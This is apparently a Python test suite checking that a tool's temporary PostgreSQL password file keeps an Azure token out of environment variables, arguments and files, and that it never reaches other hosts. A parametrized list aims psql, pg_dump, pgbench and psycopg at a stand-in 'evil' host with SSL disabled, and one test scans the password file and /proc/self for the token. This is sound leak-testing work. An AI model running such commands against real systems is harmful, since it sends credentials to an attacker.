"""Commands with a password file: who gets the token, and who signs in with it again."""

from __future__ import annotations

import os
import sys
from typing import TYPE_CHECKING

import pytest
from fix_hostile import Hostile, ask_in_clear

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from fix_command import Command
    from fix_servers import Postgres

    from azpg.emulator import Emulator

pytestmark = pytest.mark.once


def python(code: str) -> list[str]:
    """Return a command that runs some Python."""
    return ["--", sys.executable, "-c", code]


def test_the_token_is_in_no_variable_no_argument_and_no_file(
    azure15: Emulator, command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the command runs its token is in its password file alone."""
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    code = f"""
import os, pathlib, re
token = re.search(rb"eyJ[\\w.-]+", pathlib.Path(os.environ["PGPASSFILE"]).read_bytes())[0]
places = [pathlib.Path("/proc/self", name) for name in ("environ", "cmdline")]
places += [path for path in pathlib.Path({str(tmp_path)!r}).rglob("*") if path.is_file()]
print(len(token) > 1000, [str(path) for path in places if token in path.read_bytes()])
"""
    ran = command("exec", "--server", "myserver", *python(code))
    assert ran.out == "True []\n", ran.err
    assert "eyJ" not in ran.err


TOOLS = [
    ["psql", "-Xwc", "select", "host={evil} sslmode=disable"],
    ["psql", "-Xwc", "select", "postgresql://myapp@evil.example/x?hostaddr={evil}&sslmode=disable"],
    ["env", "PGSSLMODE=disable", "pg_dump", "-w", "-h", "{evil}"],
    ["pg_dump", "-w", "-d", "host={host} hostaddr={evil} port={other} sslmode=disable"],
    ["env", "PGSSLMODE=disable", "PGHOSTADDR=", "pgbench", "-h", "{evil}", "-p", "{other}"],
    [sys.executable, "-c", "import psycopg; psycopg.connect('host={evil} sslmode=disable')"],
]


@pytest.mark.parametrize("words", TOOLS, ids=lambda words: words[0])
def test_a_command_takes_the_token_nowhere(
    azure15: Emulator, command: Command, hostile: Callable[..., Hostile], words: list[str]
) -> None:
    """A program that is told another host or port reaches it without the token."""
    address = f"127.67.{os.getpid() >> 8 & 255}.{os.getpid() & 255 or 255}"
    servers = hostile(ask_in_clear, address, 5432), hostile(ask_in_clear, address)
    told = [word.format(evil=address, host=azure15.host, other=servers[1].port) for word in words]
    ran = command("exec", "--server", "myserver", "--", "env", "PGHOSTADDR=", *told)
    assert servers[0].connections + servers[1].connections, ran.err
    assert b"eyJ" not in servers[0].clear + servers[1].clear


GRANDCHILD = (
    "import subprocess; subprocess.run(['psql', '-XAtc', 'select current_user'], check=True)"
)


@pytest.mark.parametrize(
    "words",
    [
        ["psql", "-XAtc", "select current_user"],
        [sys.executable, "-c", GRANDCHILD],
        ["bash", "-c", "exec 3</dev/null 4<&3 9<&3; psql -XAtc 'select current_user'; true"],
        ["setsid", "-w", "nohup", "psql", "-XAtc", "select current_user"],
        [
            sys.executable,
            "-c",
            "import psycopg; print(psycopg.connect().execute('select current_user').fetchone()[0])",
        ],
    ],
    ids=["psql", "closed descriptors", "descriptors of a script", "setsid", "psycopg"],
)
def test_a_command_and_its_children_sign_in(
    azure15: Emulator, command: Command, words: list[str]
) -> None:
    """The password file is there for the command's children too, whatever they inherit."""
    assert command("exec", "--server", "myserver", "--", *words).out == "myapp\n"


def test_the_users_own_line_for_another_server(
    azure15: Emulator, command: Command, postgres: Postgres, tmp_path: Path
) -> None:
    """A command that also goes to another server finds the password for it as before."""
    path = tmp_path / "home" / ".pgpass"
    path.write_text(f"{postgres.host}:*:*:app:{postgres.password}\n")
    path.chmod(0o600)
    there = f"host={postgres.host} hostaddr={postgres.hostaddr} user=app dbname=postgres"
    there += f" sslrootcert={postgres.root}"
    both = f'psql -XAtc "select 1" && psql -XwAtc "select current_user" "{there}"'
    ran = command("exec", "--server", "myserver", "--", "sh", "-c", both)
    assert ran.out == "1\napp\n", ran.err


def test_asyncpg_finds_it(command: Command, postgres: Postgres) -> None:
    """A plain asyncpg reads the password file itself."""
    code = """
import asyncio, asyncpg
async def main():
    conn = await asyncpg.connect(database="postgres")
    print(await conn.fetchval("select current_user"))
asyncio.run(main())
"""
    dsn = f"host={postgres.hostaddr} user=app sslmode=disable"
    ran = command("exec", dsn, *python(code), PGPASSWORD=postgres.password)
    assert ran.out == "app\n", ran.err
